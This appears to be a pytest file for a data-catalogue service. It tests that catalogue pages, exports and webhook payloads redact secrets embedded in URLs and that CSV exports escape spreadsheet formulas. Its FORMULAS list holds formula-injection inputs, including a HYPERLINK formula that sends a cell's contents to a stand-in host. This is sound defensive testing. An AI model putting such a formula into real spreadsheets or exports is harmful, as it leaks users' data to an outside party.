"""Catalogues show no secret of an address, and hand a spreadsheet nothing that it would run."""

from __future__ import annotations

import csv
import io
import json
import time
from datetime import UTC, datetime

import polars as pl
import pytest

from app.jobs.payload import payload
from app.store import News, RunNews

S = "S3cr3tValue0123456789"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1"]


def ended(client, run):
    for _ in range(600):
        now = client.get(run).json()
        if now["ended_at"]:
            return now
        time.sleep(0.1)
    raise AssertionError(now)


@pytest.fixture(scope="module")
def kept(client, town):
    """Run over a list under a signed address, of signed addresses with wicked titles."""
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["url", "title", "organisation", "theme"])
    for n, text in enumerate(FORMULAS):
        file = town.publish(f"/kept/{n}.csv", "nom,montant\nA,1\n")
        writer.writerow([f"{file}?x=1&sig={S}", text, text, text])
    dead = f"http://127.0.0.1:{town.port}/kept/none.csv?token={S}"
    writer.writerow([dead, f"Voir {dead}", "", ""])
    writer.writerow([f"http://clerk:{S}@127.0.0.1:{town.port}/x.csv", "", "", ""])
    url = f"{town.publish('/kept/list.csv', out.getvalue())}?access_token={S}"
    catalog = client.post("/v1/catalogs", json={"url": url}).json()
    own = f"/v1/catalogs/{catalog['id']}"
    run = client.post(f"{own}/runs", json={"policy": "all"}).json()
    found = ended(client, f"{own}/runs/{run['id']}")
    assert found["state"] == "succeeded", found
    return own, found


def test_what_is_shown_of_a_catalogue_holds_no_secret(client, kept):
    own, run = kept
    page = own.removeprefix("/v1")
    paths = [
        own,
        "/v1/catalogs",
        f"{own}/datasets",
        f"{own}/summary",
        f"{own}/runs",
        f"{own}/runs/{run['id']}",
        f"{own}/runs/{run['id']}/events",
        *(f"{own}.{form}" for form in ("ttl", "jsonld", "rdf")),
        *(f"{own}/export.{form}" for form in ("csv", "jsonl", "ttl")),
        f"{own}/badge.svg",
        "/catalogs",
        page,
    ]
    for path in paths:
        answer = client.get(path)
        assert answer.status_code == 200, path
        assert S not in answer.text, path
    assert run["listing"]["troubles"] == 1
    assert "sig=…" in client.get(f"{own}/datasets").text
    rows = pl.read_parquet(client.get(f"{own}/export.parquet").content)
    assert S not in str(rows.to_dicts())


def test_the_files_themselves_were_asked_for_whole(client, kept):
    items = client.get(f"{kept[0]}/datasets").json()["items"]
    assert len(items) == len(FORMULAS) + 1
    assert sum(item["grade"] is not None for item in items) >= len(FORMULAS)


def test_no_cell_of_the_export_is_run_by_a_spreadsheet(client, kept):
    rows = list(csv.reader(io.StringIO(client.get(f"{kept[0]}/export.csv").text, newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    assert sum(cell.startswith("'") for cell in cells) >= len(FORMULAS)
    assert [cell for cell in cells if cell.lstrip("\t ")[:1] in set("=+-@") and cell] == []
    told = [json.loads(line) for line in client.get(f"{kept[0]}/export.jsonl").text.splitlines()]
    assert "+1+1" in {one["title"] for one in told}  # JSON is no spreadsheet


@pytest.mark.parametrize("event", ["assessment.completed", "run.completed"])
def test_what_a_webhook_is_told_holds_no_secret(event):
    url = f"https://me:{S}@h.fr/a.csv?sig={S}"
    run = RunNews(catalog="c", run="r", state="succeeded", title=f"Liste {url}")
    told = News(
        event=event,
        at=datetime.now(UTC),
        dataset="d",
        url=url,
        title=f"Voir {url}",
        run=run if event == "run.completed" else None,
    )
    text = payload(told, "https://q.fr").model_dump_json()
    assert S not in text
    assert "h.fr/a.csv" in text
